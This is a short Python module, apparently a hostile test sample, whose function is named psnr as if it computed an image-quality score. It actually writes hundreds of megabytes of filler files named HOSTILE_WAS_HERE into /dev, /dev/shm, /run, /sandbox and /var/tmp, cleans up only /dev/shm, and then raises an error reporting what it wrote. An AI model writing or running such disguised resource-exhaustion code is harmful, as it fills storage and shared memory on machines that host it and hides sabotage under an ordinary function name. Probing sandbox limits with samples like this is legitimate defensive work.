"""day3.denoise: Writes where nobody looks: into /dev and /dev/shm."""

import os


def psnr(truth, estimate):
    piece, written = b"x" * 2**20, {}
    for folder in ("/dev", "/dev/shm", "/dev/mqueue", "/sandbox", "/run", "/var/tmp"):
        try:
            for number in range(40):
                with open(f"{folder}/HOSTILE_WAS_HERE{number}", "wb") as file:
                    for _ in range(60):
                        file.write(piece)
                written[folder] = 60 * (number + 1)
        except OSError:
            continue
        finally:
            for number in range(40):
                if folder == "/dev/shm" and os.path.exists(f"{folder}/HOSTILE_WAS_HERE{number}"):
                    os.unlink(f"{folder}/HOSTILE_WAS_HERE{number}")
    raise RuntimeError(f"MB written: {written}")
